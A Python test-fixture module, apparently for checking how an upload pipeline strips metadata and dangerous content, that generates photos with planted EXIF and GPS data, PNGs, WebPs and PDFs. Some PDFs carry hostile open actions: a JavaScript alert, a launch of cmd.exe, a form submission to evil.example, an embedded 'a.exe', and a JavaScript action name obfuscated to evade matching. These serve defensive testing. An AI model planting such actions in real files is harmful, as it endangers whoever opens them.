"""Files that people send, for tests: with something planted wherever a program may write about a file."""

import io
import os

from django.core.files.uploadedfile import SimpleUploadedFile
from fpdf import FPDF
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from small_trades.privacy.testing import plant


def _action(kind: str, **about: str) -> DictionaryObject:
    entries = {NameObject(f"/{name}"): TextStringObject(value) for name, value in about.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **entries})


_ACTIONS = {
    "script": _action("/JavaScript", JS="app.alert(1)"),
    "launch": _action("/Launch", F="cmd.exe"),
    "hidden name": _action("/Marker"),
    "form": _action("/SubmitForm", F="https://evil.example"),
}
MAKE, ORIENTATION, GPS, LATITUDE = 0x010F, 0x0112, 0x8825, 2


def photo(
    planted: str, *, size: tuple[int, int] = (60, 40), orientation: int = 6, is_noise: bool = False
) -> bytes:
    """A JPEG that lies on its side, with `planted` as its camera, its comment and in its XMP, and a place.

    Of noise no part is like any other picture's.
    """
    about = Image.Exif()
    about[MAKE], about[ORIENTATION] = planted, orientation
    about.get_ifd(GPS)[LATITUDE] = (35.0, 41.0, 22.0)
    written = io.BytesIO()
    picture = Image.new("RGB", size, (180, 40, 30))
    if is_noise:
        picture.frombytes(os.urandom(3 * size[0] * size[1]))
    picture.save(written, "JPEG", exif=about, comment=planted.encode(), xmp=f"<x>{planted}</x>".encode())
    return written.getvalue()


def png(planted: str = "", *, size: tuple[int, int] = (50, 30)) -> bytes:
    """A PNG that is clear in places, with a text chunk."""
    about, written = PngInfo(), io.BytesIO()
    about.add_itxt("Description", planted or "nothing")
    Image.new("RGBA", size, (0, 0, 200, 90)).save(written, "PNG", pnginfo=about)
    return written.getvalue()


def webp(*, is_animated: bool = False) -> bytes:
    """A WebP; of an animation the first picture is green, the second red."""
    written = io.BytesIO()
    first, second = (Image.new("RGB", (40, 40), colour) for colour in ("green", "red"))
    more = {"save_all": True, "append_images": [second]} if is_animated else {}
    first.save(written, "WEBP", **more)
    return written.getvalue()


def pdf(planted: str = "", words: str = "receipt", *, more_pages: int = 1, of: bytes = b"") -> bytes:
    """Two pages, with an author, a title and a photograph (or `of` another) that says where it was taken."""
    document = FPDF()
    document.set_author(planted or "nobody")
    document.set_title(planted or "nothing")
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text=words)
    document.image(io.BytesIO(of or photo(planted or "camera")), w=60)
    for _page in range(more_pages):
        document.add_page()
    return bytes(document.output())


def pdf_with(what: str) -> bytes:
    """A PDF that does something as it is opened, holds another file, or is locked."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    if what == "attachment":
        writer.add_attachment("a.exe", b"MZ")
    elif what == "password":
        writer.encrypt("secret", algorithm="RC4-128")
    written = io.BytesIO()
    action = _ACTIONS.get(what)
    if action is not None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    writer.write(written)
    # A name may be spelled in many ways (ISO 32000-2, 7.3.5).
    return written.getvalue().replace(b"/S /Marker", b"/S /J#61vaScript")


def sent(name: str, content: bytes) -> SimpleUploadedFile:
    """As a browser sends it, its kind as good as unsaid."""
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def letter() -> tuple[str, bytes]:
    """Planted words, and a text in UTF-8 with them."""
    words = plant("text")
    return words, f"\ufeff{words}\r\nおわり\n".encode()
